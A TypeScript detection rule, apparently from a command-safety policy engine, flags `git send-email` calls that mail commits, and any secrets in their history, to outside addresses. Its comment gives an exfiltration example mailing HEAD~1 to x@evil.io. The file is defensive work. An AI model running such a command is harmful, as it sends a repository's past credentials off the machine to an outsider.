import type { Finding, Invocation, RuleContext } from '../../policy/types';
import { gitStart } from './gitGlobals';

/**
 * `git send-email --to=x@evil.io HEAD~1`, `git send-email -3`: commits mailed as patches to an address,
 * with whatever their diffs carry (keys and passwords committed once, in files since deleted). Files
 * named on the command line are judged as files sent (`fileTransfers.ts`); revisions here. A dry run
 * (`--dry-run`) sends nothing.
 */

/** Options of send-email and format-patch that take a separate value. */
const VALUED = new Set(['--to', '--cc', '--bcc', '--from', '--subject', '--in-reply-to', '--smtp-server', '--smtp-server-port', '--smtp-user', '--smtp-pass', '--smtp-encryption', '--smtp-domain', '--identity', '--to-cmd', '--cc-cmd', '--header-cmd', '--sendmail-cmd', '--reply-to', '--transfer-encoding', '--8bit-encoding', '--compose-encoding', '--batch-size', '--relogin-delay', '--confirm', '--validate', '-o', '--output-directory', '--start-number', '--signature', '--signature-file', '--base', '--interdiff', '--range-diff', '--creation-factor', '-v', '--reroll-count', '--subject-prefix', '--suffix']);

export function checkMailedPatches(inv: Invocation, ctx: RuleContext): Finding[] {
  if (inv.name !== 'git' && inv.name !== 'git-send-email') return [];
  const start = inv.name === 'git' ? gitStart(inv, ctx.facts) : { sub: 'send-email', rest: inv.args, cwd: inv.cwd || ctx.facts.cwd };
  if (start.sub !== 'send-email') return [];
  const revisions: string[] = [];
  const to: string[] = [];
  for (let i = 0; i < start.rest.length; i++) {
    const t = start.rest[i]!.text;
    if (t === '--dry-run') return [];
    if (t === '--to' || t === '--cc' || t === '--bcc') to.push(start.rest[i + 1]?.text ?? '');
    else if (/^--(to|cc|bcc)=/.test(t)) to.push(t.slice(t.indexOf('=') + 1));
    if (t.startsWith('-')) {
      // `-3`: the last three commits.
      if (/^-\d+$/.test(t)) revisions.push(t);
      if (!t.includes('=') && VALUED.has(t)) i++;
      continue;
    }
    // A revision or range (`HEAD~1`, `origin/main..`, `v1.0`), not a patch file already written.
    if (!/\.(patch|diff|eml|mbox)$/.test(t) && ctx.facts.fileStatus?.(t.startsWith('/') ? t : `${start.cwd}/${t}`) !== 'file' && ctx.facts.fileStatus?.(t.startsWith('/') ? t : `${start.cwd}/${t}`) !== 'directory') revisions.push(t);
  }
  if (revisions.length === 0) return [];
  const where = to.filter((t) => t !== '').join(', ') || 'the configured recipients';
  return [{
    rule: 'credentials.sent-out',
    risk: 'credential-dump',
    severity: 'ask',
    reason: `git send-email mails the commits ${revisions.slice(0, 3).join(' ')} as patches to ${where}: whatever their diffs hold (secrets committed once included) leaves the machine.`,
    targets: [{ kind: 'credential', name: `commits ${revisions.slice(0, 3).join(' ')}`, remote: true, environment: 'unknown', environmentReason: `mailed to ${where}, whose environment nothing names` }],
  }];
}
